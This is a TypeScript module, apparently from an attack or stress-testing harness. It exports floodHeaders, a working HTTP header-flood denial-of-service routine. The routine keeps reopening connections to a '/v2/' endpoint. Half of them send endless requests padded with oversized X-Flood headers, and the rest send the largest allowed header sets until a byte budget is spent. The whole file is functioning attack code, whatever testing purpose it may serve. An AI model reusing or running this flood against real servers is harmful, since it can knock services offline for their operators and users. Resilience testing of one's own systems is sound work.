import type { Socket } from 'node:net';
import type { Attack } from '../attack.ts';
import { Answers } from './answers.ts';
import { closeOf, openConnection } from './connection.ts';
import type { RunningAttack } from './running-attack.ts';

const BEGINNING = 'GET /v2/ HTTP/1.1\r\nHost: x\r\n';
const header = (length: number) => `X-Flood: ${'x'.repeat(length)}\r\n`;
/** Of a request that has no end. It is too long by far, and goes on when it is refused. */
const ENDLESS = BEGINNING + header(80).repeat(1400);
/** As many as are allowed, and nearly as large: each is read, and answered. */
const ALLOWED = `${BEGINNING}${header(600).repeat(100)}\r\n`;

/**
 * Sends headers, over connections that are opened again as they are closed: every other one sends requests without an
 * end, and the others as many as are answered.
 */
export function floodHeaders(attack: Attack): RunningAttack {
  const answers = new Answers();
  let sent = 0;
  let open = 0;
  const send = (socket: Socket, text: string) => {
    sent += text.length;
    socket.write(text);
  };
  const flood = async (index: number) => {
    while (sent < attack.bytes) {
      const socket = await openConnection(attack);
      open++;
      const closed = closeOf(socket);
      const isEndless = index % 2 === 0;
      answers.watch(socket, () => {
        if (isEndless) return;
        if (sent < attack.bytes) send(socket, ALLOWED);
        else socket.end();
      });
      send(socket, isEndless ? ENDLESS : ALLOWED);
      await closed;
      open--;
    }
  };
  void Promise.all(Array.from({ length: attack.count }, (_, index) => flood(index)));
  return { ready: Promise.resolve(), result: () => ({ open, sent, answers: answers.counts }) };
}
